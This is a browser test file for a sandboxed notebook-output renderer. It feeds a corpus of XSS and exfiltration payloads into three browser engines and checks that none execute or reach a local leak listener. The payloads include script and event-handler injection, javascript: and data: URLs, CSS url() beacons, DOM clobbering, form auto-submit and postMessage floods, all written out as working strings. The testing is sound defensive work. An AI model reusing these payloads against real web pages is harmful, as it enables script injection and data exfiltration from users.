// pycage/render in Chromium (Playwright), Firefox ESR and WebKitGTK (over
// WebDriver, tests/e2e/webdriver.mjs): a corpus of hostile outputs and real
// pandas / plotly / Altair output (tests/fixtures/render/), with one check
// list for every engine (suite()). Pass means: no attacker script runs in
// the page, no request reaches a listener (nor the page's own server, past
// the files the page loads; a Vega-Lite spec whose data names the listener
// included), the page stays responsive (a 25 ms timer never
// gaps more than MAX_STALL_MS; where an engine runs sandboxed frames on the
// page's thread, the renderer's own work is judged and a frame's stall is
// compared with the same frame bare), and the real output is shown as it
// should be (tables in the page, plots drawn in their frames).
// Usage: node tests/render/browser.mjs [chromium|firefox|webkit]...   (all three by default;
// needs no build; CHROMIUM to override /usr/bin/chromium)
import { execFileSync } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import http from "node:http";
import { extname, join, normalize } from "node:path";
import { launch, tally } from "../e2e/harness.mjs";
import { driver, session } from "../e2e/webdriver.mjs";

const ROOT = new URL("../../", import.meta.url).pathname;
const FIXTURES = join(ROOT, "tests/fixtures/render");
// The attack suites' measure (tests/common/mod.rs MAX_PAGE_STALL_MS): the
// longest gap of a 25 ms page timer. Every gap over 100 ms is printed, so a
// slower renderer shows in the log long before it fails (typical: under
// 300 ms on a quiet 2-core machine; 685 ms seen under a parallel build).
const MAX_STALL_MS = 2000;
const started = performance.now();
const { check: tallyCheck, finish } = tally("render browser");

// plotly.js as an app would self-host it: the copy in the Python package.
let plotlyFile = null;
try {
  const dir = execFileSync("python3", ["-c", "import plotly, os; print(os.path.dirname(plotly.__file__))"], { encoding: "utf8" }).trim();
  if (existsSync(join(dir, "package_data/plotly.min.js"))) plotlyFile = join(dir, "package_data/plotly.min.js");
} catch {}

// vega, vega-lite and vega-embed as an app would self-host them: the
// builds of the pinned devDependencies (the versions Altair 6's HTML names).
const VEGA_FILES = Object.fromEntries(
  [
    ["vega", "vega/build/vega.min.js"],
    ["vegaLite", "vega-lite/build/vega-lite.min.js"],
    ["vegaEmbed", "vega-embed/build/vega-embed.min.js"],
  ].map(([key, file]) => [key, join(ROOT, "node_modules", file)]),
);
const vegaServed = (path) => Object.values(VEGA_FILES).find((f) => path === `/vendor/${f.split("/").pop()}`);

function listen(handler) {
  const server = http.createServer(handler);
  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(server)));
}

// The leak listener: any request to it is a failure.
const hits = [];
const listener = await listen((req, res) => {
  hits.push(`${req.method} ${req.url}`);
  res.writeHead(200, { "content-type": "text/plain", "access-control-allow-origin": "*" });
  res.end("ok");
});
const L = `http://127.0.0.1:${listener.address().port}`;

// The app's server: the page, render/, and plotly.js.
const served = [];
const TYPES = { ".js": "text/javascript", ".json": "application/json", ".html": "text/html" };
const site = await listen((req, res) => {
  const path = decodeURIComponent(new URL(req.url, "http://x").pathname);
  served.push(path);
  let file = null;
  if (path === "/") {
    res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
    return res.end('<!DOCTYPE html><html><head><meta charset="utf-8"><title>render test</title></head><body><p id="outside">outside</p><div id="out"></div></body></html>');
  }
  if (path.startsWith("/render/")) file = normalize(join(ROOT, path));
  if (path === "/vendor/plotly.min.js") file = plotlyFile;
  if (vegaServed(path)) file = vegaServed(path);
  if (!file || !file.startsWith(join(ROOT, "render")) && file !== plotlyFile && !vegaServed(path) || !existsSync(file)) {
    res.writeHead(404);
    return res.end();
  }
  res.writeHead(200, { "content-type": TYPES[extname(file)] ?? "application/octet-stream", "cross-origin-resource-policy": "cross-origin" });
  res.end(readFileSync(file));
});
const U = `http://127.0.0.1:${site.address().port}`;
const PLOTLY_URL = plotlyFile ? `${U}/vendor/plotly.min.js` : null;
const VEGA_URLS = Object.values(VEGA_FILES).every(existsSync) ? Object.fromEntries(Object.entries(VEGA_FILES).map(([key, f]) => [key, `${U}/vendor/${f.split("/").pop()}`])) : null;

const manifest = JSON.parse(readFileSync(join(FIXTURES, "manifest.json"), "utf8"));
const fixtures = manifest.fixtures.map((f) => ({ ...f, content: readFileSync(join(FIXTURES, f.file), "utf8") }));

// ---------------------------------------------------------------------------
// In the page: renders the corpus while a 25 ms timer watches the thread.
async function inPage({ L, plotlyUrl, vegaUrls, fixtures }) {
  const R = await import("/render/index.js");
  const out = document.getElementById("out");
  window.__errors = [];
  addEventListener("error", (e) => window.__errors.push(String(e.message)));
  addEventListener("unhandledrejection", (e) => window.__errors.push(String(e.reason)));
  const enc = (s) => new TextEncoder().encode(s);
  const P = "top.__pwned=(top.__pwned||0)+1";
  const beacon = (tag) => `fetch("${L}/${tag}").catch(()=>{});new Image().src="${L}/${tag}-img";`;
  const base = { status: "ok", stdout: "", stderr: "", truncated: false, result: null, error: null, figures: [], outputs: [], droppedOutputs: [], protocolViolations: [], durationMs: 1, waitedMs: 0, interpreterReset: false, resetReason: null, memoryBytes: null, files: [], lostFiles: [] };
  const ex = (fields) => ({ ...base, ...fields });
  const display = (data) => ({ type: "display", source: "display", data: { "text/plain": "<object>", ...data } });
  const html = (h) => display({ "text/html": h });

  // Counts message listeners, to see dispose() remove its own.
  let messageListeners = 0;
  const add = window.addEventListener.bind(window);
  const remove = window.removeEventListener.bind(window);
  window.addEventListener = (type, fn, opts) => (type === "message" && messageListeners++, add(type, fn, opts));
  window.removeEventListener = (type, fn, opts) => (type === "message" && messageListeners--, remove(type, fn, opts));

  // Built before the timer starts: making 50 MB of test input is not the renderer's work.
  const row = "<tr><td>123456</td><td>abcdef</td><td>ghijkl</td></tr>";
  const table50 = `<table>${row.repeat(Math.ceil(50e6 / row.length))}</table>`;
  const deep = `${"<div>".repeat(10000)}deep${"</div>".repeat(10000)}`;
  const deepTable = `${"<div>".repeat(10000)}<table><tr><td>x</td></tr></table>${"</div>".repeat(10000)}`;
  const bigHtml = `<p>${"x".repeat(6e6)}</p>`;
  const ansiFlood = "\x1b[31ma\x1b[32mb<script>\n".repeat(200_000);
  // Flat, as strings arrive from the sandbox (structured clone), not ropes to be flattened on first use.
  for (const s of [table50, deep, deepTable, bigHtml, ansiFlood]) s.indexOf("\u0001");

  const hostile = {
    script: `<script>${P};${beacon("script")}</script><p>script</p>`,
    handlers: `<img src="x" onerror="${P};${beacon("onerror")}"><svg onload="${P}"></svg><body onload="${P};${beacon("body-onload")}"><details open ontoggle="${P};${beacon("ontoggle")}"><summary>x</summary></details><input autofocus onfocus="${P};${beacon("onfocus")}">`,
    javascriptUrls: `<a id="j" href="javascript:${P};${beacon("js-url")}">js</a><script>document.getElementById("j").click()</script><iframe src="javascript:fetch('${L}/js-iframe')"></iframe>`,
    dataUrls: `<iframe src="data:text/html,<script>fetch('${L}/data-iframe')</script>"></iframe><object data="data:text/html,<script>fetch('${L}/data-object')</script>"></object><embed src="data:text/html,<script>fetch('${L}/data-embed')</script>"><a id="d" href="data:text/html,<script>fetch('${L}/data-link')</script>">d</a><script>document.getElementById("d").click()</script><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${L}/data-svg-image'/></svg>">`,
    svgScripts: `<svg xmlns="http://www.w3.org/2000/svg"><script>${P};${beacon("svg-script")}</script><image href="${L}/svg-image"/><foreignObject><iframe src="${L}/svg-fo"></iframe></foreignObject><use href="${L}/svg-use#x"/><animate onbegin="${P};${beacon("svg-onbegin")}" attributeName="x" dur="1s"/></svg>`,
    cssUrls: `<style>@import url("${L}/css-import");body{background:url("${L}/css-bg")}@font-face{font-family:f;src:url("${L}/css-font")}p{font-family:f}</style><p style="background-image:url('${L}/css-inline')">css</p><link rel="stylesheet" href="${L}/css-link">`,
    metaHttpEquiv: `<meta http-equiv="refresh" content="0;url=${L}/meta-refresh"><meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'; img-src *; connect-src *"><meta http-equiv="set-cookie" content="a=b"><img src="${L}/meta-img"><script>${beacon("meta-fetch")}</script>`,
    forms: `<form id="f" action="${L}/form" method="post"><input name="a" value="b"><button id="b">go</button></form><script>document.getElementById("f").submit();document.getElementById("b").click()</script><form action="javascript:${P}"><button id="c">c</button></form><script>document.getElementById("c").click()</script>`,
    baseTag: `<base href="${L}/base/"><img src="base-img.png"><script src="base-script.js"></script><a id="bl" href="base-link">l</a><script>document.getElementById("bl").click()</script>`,
    navigation: `<script>setTimeout(()=>{location.href="${L}/self-nav"},50);setTimeout(()=>{try{top.location="${L}/top-nav"}catch(e){}},60);setTimeout(()=>{try{parent.location="${L}/parent-nav"}catch(e){}},65);setTimeout(()=>{window.open("${L}/popup")},70);try{navigator.sendBeacon("${L}/beacon")}catch(e){};try{new WebSocket("${L.replace("http", "ws")}/ws")}catch(e){};try{new EventSource("${L}/sse")}catch(e){};import("${L}/module.js").catch(()=>{});try{new Worker("${L}/worker.js")}catch(e){}</script><a href="${L}/link" target="_self" id="n">n</a><script>setTimeout(()=>document.getElementById("n").click(),80)</script><link rel="prefetch" href="${L}/prefetch"><link rel="preload" as="image" href="${L}/preload"><meta http-equiv="refresh" content="1">`,
    childFrames: `<iframe id="c"></iframe><script>const c=document.getElementById("c");c.contentWindow.location="${L}/child-nav";const i=document.createElement("iframe");i.src="${L}/child-src";document.body.append(i);const s=document.createElement("iframe");s.srcdoc="<script>fetch('${L}/grandchild');location='${L}/grandchild-nav'<\\/script>";document.body.append(s)</script>`,
    clobberFrame: `<form id="out" name="getElementById"><img name="getElementById"><img id="__pwned"></form>`,
    tableTemplate: `<table><template><script>${P}</script></template><tr><td>t</td></tr></table>`,
    tableNoscript: `<table><tr><td><noscript><img src="${L}/noscript" onerror="${P}"></noscript></td></tr></table>`,
    deepDivs: deep,
    deepDivsAroundTable: deepTable,
  };
  const tables = {
    clobberTable: `<table id="out" name="getElementById"><tr><td id="__pwned" name="cookie">clobber</td></tr></table><div id="outside">x</div>`,
    tableAttrs: `<table onclick="${P}" background="${L}/table-bg" style="background:url(${L}/table-style)" id="t1" class="evil"><caption style="x">cap</caption><colgroup span="999999"><col span="2" style="background:url(${L}/col)"></colgroup><tr><td colspan="99999" rowspan="-1" onmouseover="${P}" style="background:url(${L}/td-style)" class="x" title="t" data-x="1">a</td><th scope="row" abbr="x" headers="h">b</th><td background="${L}/td-bg">c</td></tr></table>`,
    styleInCell: `<table><tr><td><style>@import url(${L}/style-in-cell);</style><b>cell</b></td></tr></table>`,
    table50MB: table50,
  };

  const svgFigure = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"><title>Hostile chart</title><script>${P}</script><image href="${L}/svg-figure-image" width="10" height="10"/><style>@import url(${L}/svg-figure-css);</style><rect width="40" height="30" fill="teal" onload="${P}"/></svg>`;

  const cases = [];
  const results = {};
  let worst = 0;
  let last = performance.now();
  const stalls = [];
  let current = "start";
  const timer = setInterval(() => {
    const now = performance.now();
    if (now - last > 100) stalls.push(`${Math.round(now - last)} (${current})`);
    worst = Math.max(worst, now - last);
    last = now;
  }, 25);
  const tick = () => new Promise((r) => setTimeout(r, 30));
  const options = { plotlyUrl, vegaUrls, maxFrameHeight: 2000 };
  const renderCase = async (name, execution, opts = options) => {
    const box = document.createElement("section");
    box.dataset.case = name;
    out.append(box);
    console.debug(`render case ${name}`);
    current = name;
    const t = performance.now();
    let handle;
    try {
      handle = R.renderExecution(execution, box, opts);
    } catch (e) {
      results[name] = { threw: String(e) };
      return null;
    }
    results[name] = { ms: Math.round(performance.now() - t) };
    cases.push({ name, handle, box });
    await tick();
    return handle;
  };

  for (const [name, h] of Object.entries(hostile)) await renderCase(name, ex({ outputs: [html(h)] }));
  for (const [name, h] of Object.entries(tables)) await renderCase(name, ex({ outputs: [html(h)] }));
  await renderCase("bigHtml", ex({ outputs: [html(bigHtml)] }));
  await renderCase("plotlyJsonHostile", ex({ outputs: [display({ "application/vnd.plotly.v1+json": { data: [{ type: "bar", x: ["a"], y: [1] }], layout: { title: { text: `</script><script>${P}</script>` } } } })] }));
  // Vega-Lite specs: a hostile title, data and an image by URL (the
  // listener's: the frame's CSP must refuse both), a Vega spec by URL.
  const VL = "application/vnd.vegalite.v6+json";
  await renderCase("vegaHostileTitle", ex({ outputs: [display({ [VL]: { title: `</script><script>${P}</script>`, data: { values: [{ a: "x", b: 1 }] }, mark: "bar", encoding: { x: { field: "a", type: "nominal" }, y: { field: "b", type: "quantitative" } } } })] }));
  await renderCase("vegaDataUrl", ex({ outputs: [display({ [VL]: { title: "Data by URL", data: { url: `${L}/vega-data.csv` }, mark: "point", encoding: { x: { field: "a", type: "quantitative" } } } }), display({ [VL]: { data: { values: [{ u: `${L}/vega-image.png` }] }, mark: { type: "image", width: 20, height: 20 }, encoding: { url: { field: "u", type: "nominal" } } } }), display({ "application/vnd.vega.v5+json": { data: [{ name: "d", url: `${L}/vega5-data.json` }], marks: [] } })] }));
  await renderCase("markdown", ex({ outputs: [display({ "text/markdown": `# Title\n\n[x](javascript:${P}) [ok](https://example.com/) ![i](${L}/md-img) <script>${P}</script> <img src="${L}/md-html-img" onerror="${P}">\n\n${">".repeat(10000)} deep` })] }));
  await renderCase("latex", ex({ outputs: [display({ "text/latex": `\\href{javascript:${P}}{x} <script>${P}</script> $x^2$` })] }));
  await renderCase("figures", ex({ outputs: [display({ "image/svg+xml": svgFigure }), display({ "image/png": enc("<script>not a png</script>") }), display({ "image/jpeg": "not bytes" })] }));
  await renderCase("stdout", ex({ stdout: "", outputs: [{ type: "stdout", text: `<script>${P}</script>\x1b[31mred\x1b[0m \x1b]8;;${L}/osc\x07link\x1b]8;;\x07 <img src="${L}/stdout-img" onerror="${P}">\n` }, { type: "stderr", text: "\x1b[1;33mwarning\x1b[0m\n" }] }));
  await renderCase("ansiFlood", ex({ outputs: [{ type: "stdout", text: ansiFlood }] }));
  await renderCase("error", ex({ status: "error", error: { type: `<img src=x onerror="${P}">`, message: `<script>${P}</script>`, traceback: `\x1b[31mTraceback\x1b[0m\n  <b>File</b> "x"\n`, line: 1 } }));
  await renderCase("notices", ex({ status: "timeout", error: { type: "TimeoutError", message: "over 5 s", traceback: "", line: null }, interpreterReset: true, resetReason: `<b>timeout</b>`, truncated: true, droppedOutputs: Array.from({ length: 10000 }, (_, i) => `<img src="${L}/dropped-${i}" onerror="${P}">`), protocolViolations: ["<script>x</script>"], lostFiles: ["/mnt/data/a.csv"] }));
  await renderCase("files", ex({ files: [{ path: `/mnt/data/../../<img src=x onerror="${P}">.html`, size: 20, mime: "text/html", data: enc(`<script>${P}</script>`) }, { path: "/mnt/data/out/summary.csv", size: 4, mime: "text/csv", data: enc("a,b\n") }] }));
  await renderCase("oddItems", ex({ outputs: [null, { type: "weird" }, { type: "display", data: null }, { type: "stdout", text: 5 }, display({ "text/html": 5 }), { type: "display", data: { "application/json": { a: [1, 2] } } }] }));
  const renderMs = Math.round(performance.now() - last);

  // The real fixtures, each as notebook output.
  const fixtureInfo = {};
  for (const f of fixtures) {
    const data = { [f.mime]: f.mime === "text/html" ? f.content : JSON.parse(f.content) };
    await renderCase(`fixture:${f.file}`, ex({ outputs: [display(data)] }));
  }
  // plotly's text/html without plotly.js configured: a notice, not a blank frame.
  await renderCase("plotlyUnconfigured", ex({ outputs: [html(fixtures.find((f) => f.file === "plotly_cdn.html").content)] }), {});
  // An Altair chart as pycage's capture sends it: Altair's HTML, the spec
  // under v6+json, text/plain. The spec is drawn; the HTML is not used.
  const altairSpec = fixtures.find((f) => f.file === "altair_spec.json");
  const altairHtml = fixtures.find((f) => f.file === "altair_chart.html").content;
  await renderCase("altairBundle", ex({ outputs: [{ type: "display", source: "display", data: { "text/html": altairHtml, "application/vnd.vegalite.v6+json": JSON.parse(altairSpec.content), "text/plain": "alt.Chart(...)" } }] }));
  // Altair's spec and HTML without vega configured: notices, no frame.
  await renderCase("vegaUnconfigured", ex({ outputs: [{ type: "display", source: "display", data: { [altairSpec.mime]: JSON.parse(altairSpec.content), "text/plain": "alt.Chart(...)" } }] }), {});
  await renderCase("altairHtmlUnconfigured", ex({ outputs: [html(altairHtml)] }), {});

  // Let the frames do their worst for a while, with the timer still watching.
  current = "settling";
  await new Promise((r) => setTimeout(r, 4000));

  const summarise = (box) => ({
    tables: box.querySelectorAll("table.pycage-table").length,
    frames: box.querySelectorAll("iframe").length,
    imgs: [...box.querySelectorAll("img")].map((i) => ({ alt: i.alt, src: i.src.slice(0, 30), w: i.width })),
    notices: [...box.querySelectorAll(".pycage-notice")].map((n) => (n.textContent.length > 400 ? `${n.textContent.slice(0, 200)} … ${n.textContent.slice(-100)}` : n.textContent)),
    buttons: [...box.querySelectorAll("button")].map((b) => b.textContent),
    text: box.textContent.slice(0, 2000),
    frameHeights: [...box.querySelectorAll("iframe")].map((f) => parseFloat(f.style.height)),
    frameTitles: [...box.querySelectorAll("iframe")].map((f) => f.title),
    attrs: [...box.querySelectorAll(".pycage-html-table *")].flatMap((e) => [...e.attributes].map((a) => `${e.localName}[${a.name}=${a.value}]`)),
    rows: box.querySelectorAll(".pycage-html-table tr").length,
  });
  for (const c of cases) fixtureInfo[c.name] = { ...results[c.name], ...summarise(c.box) };
  for (const [name, r] of Object.entries(results)) if (r.threw) fixtureInfo[name] = r;

  // The lying frame's height over its life: sampled every tick above? Its final value is checked.
  clearInterval(timer);

  // Page integrity after the clobbering attempts.
  const integrity = {
    pwned: window.__pwned ?? null,
    errors: window.__errors,
    getElementById: typeof document.getElementById,
    out: document.getElementById("out") === out,
    outside: document.getElementById("outside")?.localName,
    cookieType: typeof document.cookie,
  };

  // CSS: every rule of every adopted sheet is scoped under .pycage-render.
  const selectors = [];
  const walk = (rules) => {
    for (const r of rules) {
      if (r.selectorText !== undefined) selectors.push(r.selectorText);
      else if (r.cssRules) walk(r.cssRules);
    }
  };
  for (const s of document.adoptedStyleSheets) walk(s.cssRules);
  const unscoped = selectors.filter((s) => s.split(",").some((part) => !part.trim().startsWith(".pycage-render")));
  const outsideStyle = getComputedStyle(document.getElementById("outside")).fontFamily;

  return { results: fixtureInfo, integrity, worst: Math.round(worst), stalls, renderMs, selectors: selectors.length, unscoped, outsideStyle, adopted: document.adoptedStyleSheets.length, messageListeners };
}


// The handle: order, streaming update, files, collapse, options, themes.
async function handlePage({ L }) {
  const R = await import("/render/index.js");
  const box = document.createElement("div");
  document.body.append(box);
  const base = { status: "ok", truncated: false, result: null, error: null, figures: [], droppedOutputs: [], protocolViolations: [], interpreterReset: false, files: [], lostFiles: [] };
  const frameHtml = "<p>framed</p><script>document.body.style.height='123px'</script>";
  const o1 = [{ type: "stdout", text: "first\n" }];
  const o2 = [...o1, { type: "display", source: "display", data: { "text/markdown": "**second**" } }, { type: "stderr", text: "third\n" }, { type: "display", source: "display", data: { "text/html": frameHtml } }, { type: "stdout", text: "fifth" }];
  const o3 = [...o2.slice(0, 4), { type: "stdout", text: "fifth and more" }, { type: "stdout", text: " sixth" }];
  const handle = R.renderExecution({ ...base, outputs: o1, files: [{ path: "/mnt/data/a.bin", size: 3, mime: "application/octet-stream", data: new Uint8Array([1, 2, 3]) }] }, box);
  const first = box.textContent;
  handle.update({ ...base, outputs: o2, files: [] });
  const frame1 = box.querySelector("iframe");
  await new Promise((r) => setTimeout(r, 1500));
  const frameHeight = parseFloat(frame1.style.height);
  handle.update({ ...base, outputs: o3, result: { "text/plain": "42" } });
  const frameKept = box.querySelector("iframe") === frame1;
  const order = [...handle.element.querySelectorAll("pre, .pycage-markdown, iframe")].map((n) => (n.localName === "iframe" ? "[frame]" : n.textContent.trim()));
  // Files: a download link to an octet-stream blob, revoked on dispose.
  handle.update({ ...base, outputs: o3, files: [{ path: "/mnt/data/dir/re<p>ort?.html", size: 5, mime: "text/html", data: new TextEncoder().encode("<b>x") }] });
  const a = box.querySelector("a[download]");
  const link = { download: a.download, href: a.href.slice(0, 5), type: (await (await fetch(a.href)).blob()).type, text: a.textContent };
  // Collapse and expand from the keyboard.
  const long = R.renderOutputs([{ type: "stdout", text: "line\n".repeat(1000) }], box);
  const button = long.element.querySelector("button");
  const collapsedLines = long.element.querySelector("pre").textContent.split("\n").length;
  const aria = button.getAttribute("aria-expanded");
  handle.dispose();
  const revoked = await fetch(a.href).then(() => false, () => true);
  const afterDispose = { inPage: handle.element.isConnected, frames: document.querySelectorAll("section iframe").length };
  // Options in, typed errors out.
  const errors = [];
  const tryIt = (f) => {
    try {
      f();
      errors.push("no error");
    } catch (e) {
      errors.push(`${e.constructor.name}:${e.field}`);
    }
  };
  tryIt(() => R.renderExecution(null, box));
  tryIt(() => R.renderExecution({ status: "ok" }, box));
  tryIt(() => R.renderExecution({ ...base, outputs: [] }, null));
  tryIt(() => R.renderExecution({ ...base, outputs: [] }, box, { maxFrames: -1 }));
  tryIt(() => R.renderExecution({ ...base, outputs: [] }, box, { scriptUrls: [`${L}/x.js; script-src *`] }));
  tryIt(() => R.renderExecution({ ...base, outputs: [] }, box, { colour: "red" }));
  // A LaTeX renderer the app configures; one that throws falls back to the source.
  const latex = R.renderExecution({ ...base, outputs: [{ type: "display", source: "display", data: { "text/latex": "$x^2$" } }] }, box, { renderLatex: (src, el) => { el.textContent = `rendered:${src}`; } });
  const latexThrows = R.renderExecution({ ...base, outputs: [{ type: "display", source: "display", data: { "text/latex": "$y$" } }] }, box, { renderLatex: () => { throw new Error("bad"); } });
  // Themes.
  const themed = {};
  for (const theme of ["light", "dark"]) {
    const t = R.renderOutputs([{ type: "stdout", text: "\x1b[31mred" }], box, { theme });
    themed[theme] = { bg: getComputedStyle(t.element).backgroundColor, red: getComputedStyle(t.element.querySelector(".pycage-fg-1")).color };
  }
  const auto = R.renderOutputs([], box);
  themed.auto = getComputedStyle(auto.element).backgroundColor;
  return { first, frameHeight, frameKept, order, link, collapsedLines, aria, buttonText: button.textContent, revoked, afterDispose, errors, latex: latex.element.textContent, latexThrows: latexThrows.element.textContent, themed, listenersBefore: null };
}

// Waits for the plotly frames to be sized by their height message (sandboxed
// frames of one page may share a process with 20 hostile neighbours).
async function plotlyHeights() {
  const frames = ["fixture:plotly_cdn.html", "fixture:plotly_full.html", "fixture:plotly_bar.json", "plotlyJsonHostile"].map((name) => [name, document.querySelector(`[data-case="${name}"] iframe`)]);
  for (let i = 0; i < 100 && frames.some(([, f]) => f && parseFloat(f.style.height) <= 300); i++) await new Promise((r) => setTimeout(r, 100));
  return Object.fromEntries(frames.map(([name, f]) => [name, f ? parseFloat(f.style.height) : null]));
}

// Waits for the vega frames to be sized by their height message: Altair's
// chart is 300 px tall, so a frame over 300 px has drawn it (an empty one is
// 16 px, one that says why it could not draw about 40).
async function vegaHeights() {
  const frames = ["fixture:altair_spec.json", "fixture:altair_chart.html", "altairBundle", "vegaHostileTitle"].map((name) => [name, document.querySelector(`[data-case="${name}"] iframe`)]);
  for (let i = 0; i < 100 && frames.some(([, f]) => f && parseFloat(f.style.height) <= 300); i++) await new Promise((r) => setTimeout(r, 100));
  return Object.fromEntries(frames.map(([name, f]) => [name, f ? parseFloat(f.style.height) : null]));
}

// "Show all" on the 400,000-code ANSI flood, with a 25 ms timer watching.
async function expandFlood() {
  const box = document.querySelector('[data-case="ansiFlood"]');
  let last = performance.now();
  let worst = 0;
  const t = setInterval(() => {
    const now = performance.now();
    worst = Math.max(worst, now - last);
    last = now;
  }, 25);
  await new Promise((r) => setTimeout(r, 50));
  box.querySelector("button").click();
  await new Promise((r) => setTimeout(r, 300));
  clearInterval(t);
  return { worst: Math.round(worst), spans: box.querySelectorAll("span").length, chars: box.querySelector("pre").textContent.length };
}

// dispose() removes every frame it made.
async function disposeFrames() {
  const R = await import("/render/index.js");
  const box = document.createElement("div");
  document.body.append(box);
  const before = document.querySelectorAll("iframe").length;
  const hd = R.renderOutputs([{ type: "display", source: "display", data: { "text/html": "<p>x</p>" } }], box);
  const mid = document.querySelectorAll("iframe").length;
  hd.dispose();
  return { framesBefore: document.querySelectorAll("iframe.pycage-frame").length, added: mid - before, removed: mid - document.querySelectorAll("iframe").length };
}

// Frames that flood, lie or spin. Each runs on a fresh page (in Chromium a
// browser context of its own: sandboxed frames of one page share a process,
// so a spinning frame would stall the other test frames, though never the
// page). `watchMs`: how long a frame that is not removed is watched.
const floods = {
  syncFlood: [`<script>for(let i=0;i<300000;i++)parent.parent.postMessage({height:i},"*")</script>`, 6000],
  intervalFlood: [`<script>setInterval(()=>{for(let i=0;i<1000;i++)parent.parent.postMessage({height:1e9},"*")},0)</script>`, 6000],
  heavyFlood: [`<script>const s="x".repeat(5e6);setInterval(()=>{for(let i=0;i<5;i++)parent.parent.postMessage({height:100,pad:s},"*")},0)</script>`, 3000],
  grandchildFlood: [`<iframe srcdoc="<script>setInterval(()=>{for(let i=0;i<1000;i++)parent.parent.parent.postMessage({height:5},'*')},0)</script>"></iframe>`, 3000],
  lies: [`<script>const v=[1e9,-5,NaN,Infinity,"999999",null,[5000],{height:{valueOf(){return 1}}},1e300,1234.5];let i=0;const t=setInterval(()=>{if(i>=v.length)return clearInterval(t);const x=v[i++];try{parent.parent.postMessage(x&&typeof x==="object"&&!Array.isArray(x)?x:{height:x},"*")}catch(e){}},100)</script><p>lies</p>`, 2000],
  busyLoop: [`<script>setTimeout(()=>{const t=Date.now();while(Date.now()-t<4000){}},10)</script><p>busy</p>`, 4500],
};

async function floodPage({ body, watchMs }) {
  const R = await import("/render/index.js");
  const errors = [];
  addEventListener("error", (e) => errors.push(String(e.message)));
  let messages = 0;
  addEventListener("message", () => messages++);
  let last = performance.now();
  let worst = 0;
  const heights = new Set();
  let frame = null;
  const timer = setInterval(() => {
    const now = performance.now();
    worst = Math.max(worst, now - last);
    last = now;
    if (frame?.isConnected) heights.add(parseFloat(frame.style.height));
  }, 25);
  const t0 = performance.now();
  const handle = R.renderOutputs([{ type: "display", source: "display", data: { "text/html": body } }], document.getElementById("out"));
  frame = handle.element.querySelector("iframe");
  while (frame.isConnected && performance.now() - t0 < watchMs) await new Promise((r) => setTimeout(r, 50));
  const removedAfter = frame.isConnected ? null : Math.round(performance.now() - t0);
  await new Promise((r) => setTimeout(r, 300));
  clearInterval(timer);
  const text = handle.element.textContent;
  handle.dispose();
  return { removedAfter, worst: Math.round(worst), heights: [...heights], text, errors, messages };
}

// What the browser itself costs the page when a frame floods it: the same
// frame, bare (sandboxed, no renderer, no listener), removed after the
// time the renderer took. A flood's stall is judged against that too: the
// renderer must not add to it, though it cannot take away the browser's share.
async function barePage({ body, ms }) {
  let last = performance.now();
  let worst = 0;
  const timer = setInterval(() => {
    const now = performance.now();
    worst = Math.max(worst, now - last);
    last = now;
  }, 25);
  const f = document.createElement("iframe");
  f.setAttribute("sandbox", "allow-scripts");
  f.srcdoc = body.replaceAll("parent.parent.parent.", "parent.parent.").replaceAll("parent.parent.", "parent.");
  document.body.append(f);
  await new Promise((r) => setTimeout(r, ms));
  f.remove();
  await new Promise((r) => setTimeout(r, 300));
  clearInterval(timer);
  return Math.round(worst);
}

// ---------------------------------------------------------------------------
// The checks, the same in every engine. `browser` runs a page function:
// `run(fn, arg)` on the current page, `fresh()` for a new page at the
// site's root; `pageErrors()` are the dialogs it saw; `extras(check)`
// adds what only that engine's driver can test.
async function suite(browser) {
  const check = (ok, what) => tallyCheck(ok, `${browser.label}${what}`);
  const t0 = performance.now();
  const hits0 = hits.length;
  const served0 = served.length;
  await browser.fresh();
  const r = await browser.run(inPage, { L, plotlyUrl: PLOTLY_URL, vegaUrls: VEGA_URLS, fixtures });
  const c = r.results;
  const show = (name) => JSON.stringify(c[name]).slice(0, 300);
  const newHits = () => hits.slice(hits0);

  // --- containment ---------------------------------------------------------
  check(r.integrity.pwned === null, `no attacker script ran in the page (window.__pwned: ${r.integrity.pwned})`);
  check(r.integrity.errors.length === 0 && browser.pageErrors().length === 0, `no uncaught error or dialog in the page (${[...r.integrity.errors, ...browser.pageErrors()].slice(0, 3).join(" | ")})`);
  check(newHits().length === 0, `no request reached the listener (${newHits().length}: ${newHits().slice(0, 8).join(", ")})`);
  const unexpected = served.slice(served0).filter((p) => !(p === "/" || /^\/render\/\w+\.js$/.test(p) || p === "/vendor/plotly.min.js" || vegaServed(p) || p === "/favicon.ico"));
  check(unexpected.length === 0, `no request reached the page's own server past its files (${unexpected.slice(0, 8).join(", ")})`);
  const gaps = `gaps over 100 ms: ${r.stalls.join(", ") || "none"}`;
  if (!browser.sharedProcess) check(r.worst < MAX_STALL_MS, `the page stayed responsive: worst 25 ms timer gap ${r.worst} ms (< ${MAX_STALL_MS}; ${gaps})`);
  else {
    // Firefox and WebKit run sandboxed frames in the page's process
    // (docs/browsers.md): the frames' own scripts (plotly.js parsing 3.5 MB,
    // four times; the corpus's navigation attempts) share the page's thread.
    // The renderer's own work is judged; the page's gaps are shown.
    const slowest = Object.entries(c).filter(([, i]) => typeof i.ms === "number").sort((a, b) => b[1].ms - a[1].ms)[0];
    check(slowest[1].ms < MAX_STALL_MS, `the renderer's own work held the page at most ${slowest[1].ms} ms (${slowest[0]}; < ${MAX_STALL_MS}). With the frames' scripts on the page's thread, worst 25 ms timer gap ${r.worst} ms (${gaps})`);
  }
  check(r.integrity.getElementById === "function" && r.integrity.out && r.integrity.outside === "p" && r.integrity.cookieType === "string", "ids from the sandbox clobber nothing (document.getElementById, #out, #outside intact)");
  for (const [name, info] of Object.entries(c)) if (info.threw) check(false, `${name}: renderExecution did not throw (${info.threw})`);

  for (const name of ["script", "handlers", "javascriptUrls", "dataUrls", "svgScripts", "cssUrls", "metaHttpEquiv", "forms", "baseTag", "navigation", "childFrames", "clobberFrame", "tableTemplate", "tableNoscript", "deepDivs", "deepDivsAroundTable"]) {
    check(c[name]?.frames === 1 && c[name]?.tables === 0, `${name}: shown only in a nested sandboxed frame (${show(name)})`);
  }
